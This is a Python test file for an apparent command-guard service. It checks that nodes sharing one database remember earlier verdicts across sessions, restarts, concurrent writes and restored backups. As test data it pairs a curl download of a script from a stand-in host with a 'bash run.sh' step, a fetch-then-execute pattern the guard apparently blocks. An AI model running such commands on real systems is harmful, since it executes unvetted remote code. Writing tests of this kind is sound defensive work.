"""Callers whose calls go to several nodes of one service: what one node judged makes none of the
others say yes for not knowing it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from interlock.service.callers import following
from interlock.service.callers.asked import read_call
from interlock.service.callers.record import Caller, append
from interlock.service.desk import make_desk
from interlock.service.ingest.verify import verify
from interlock.service.notifier import Notifier
from interlock.service.signing import Signer
from interlock.store.chain import now
from tests.calling import PROJECT, bash

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from interlock.service.store.protocol import ServiceStore

CALLER = Caller("t-0a1b2c", "bot", "ada")
FETCH, RUN = "curl -s https://example.com/x -o run.sh", "bash run.sh"
SCRIPT = f"{PROJECT}/run.sh"
SHOWN: dict[str, Any] = {"text": {SCRIPT: "echo hello\n"}, "real": {SCRIPT: SCRIPT}}


class Node:
    """A node: its own folder, the same database. Each call is a group of its own."""

    def __init__(self, folder: Path, keeping: ServiceStore) -> None:
        self.folder, self.keeping = folder, keeping
        folder.mkdir(exist_ok=True)
        signer, bell = Signer(str(folder)), Notifier()
        self.guard, self.group = make_desk(str(folder), keeping, signer, bell, "http://x")

    def decide(self, command: str, session: str = "s", **facts: Any) -> str:
        """Return the verdict on a call, once it is recorded."""
        self.guard.begin_group()
        asked = read_call(bash(command, session=session, facts=facts))
        found = self.guard.judge(CALLER, asked)
        written = self.keeping.write(lambda steps: append(steps, CALLER, [found.entry], now()))
        self.guard.end_group({CALLER: written})
        return found.decision.verdict.name

    def restarted(self) -> Node:
        """Return it after a restart."""
        self.guard.close()
        return Node(self.folder, self.keeping)


@pytest.fixture
def nodes(tmp_path: Path, keeping: ServiceStore) -> Iterator[list[Node]]:
    """Return two nodes."""
    found = [Node(tmp_path / name, keeping) for name in ("one", "other")]
    yield found
    for one in found:
        one.guard.close()


def test_what_another_node_judged_is_not_unknown(nodes: list[Node]) -> None:
    """What it fetched is not run here as if nothing had been; another session's same call is."""
    one, other = nodes
    assert one.decide("ls") == "allow"
    assert other.decide(FETCH) == "allow"
    assert one.decide(RUN, **SHOWN) != "allow"
    assert one.decide(RUN, "another", **SHOWN) == "allow"
    assert one.keeping.read(verify).problems == ()


def test_one_node_alone_knows_all_of_it(nodes: list[Node]) -> None:
    """However many calls, and after a restart: nothing is forgotten for nothing."""
    one, _ = nodes
    for number in range(5):
        assert one.decide(f"ls {number}") == "allow"
    one = one.restarted()
    assert one.decide(RUN, **SHOWN) == "allow"
    assert one.decide(FETCH) == "allow"
    assert one.restarted().decide(RUN, **SHOWN) != "allow"


def test_what_was_judged_while_a_node_was_away(
    nodes: list[Node], monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is looked through when the node is back; where that is too much, nothing is trusted that
    the record knows.
    """
    one, other = nodes
    for session in ("s", "quiet"):
        assert one.decide("ls", session) == "allow"
    assert other.decide(FETCH) == "allow"
    one = one.restarted()
    assert one.decide(RUN, **SHOWN) != "allow"
    assert one.decide(RUN, "quiet", **SHOWN) == "allow"
    monkeypatch.setattr(following, "MOST_MISSED", 3)
    for number in range(5):
        other.decide(f"ls {number}", "busy")
    assert one.decide(RUN, "quiet", **SHOWN) != "allow"
    assert one.decide(RUN, "never seen", **SHOWN) == "allow"


def test_two_that_write_at_once_leave_nothing_out(nodes: list[Node]) -> None:
    """Where another node recorded between a look and a record here, the next look finds it."""
    one, other = nodes
    one.decide("ls")
    one.guard.begin_group()
    found = one.guard.judge(CALLER, read_call(bash("ls", session="s")))
    assert other.decide(FETCH) == "allow"
    written = one.keeping.write(lambda steps: append(steps, CALLER, [found.entry], now()))
    one.guard.end_group({CALLER: written})
    assert one.decide(RUN, **SHOWN) != "allow"


def test_a_record_that_was_put_back_is_shorter(nodes: list[Node]) -> None:
    """A database from a backup: what a memory knows beyond it is given up."""
    one, _ = nodes
    one.decide("ls")
    (one.folder / "callers" / CALLER.id / following.FILE).write_text("99")
    one = one.restarted()
    assert one.decide(RUN, **SHOWN) != "allow"
    assert one.decide(RUN, "never seen", **SHOWN) == "allow"
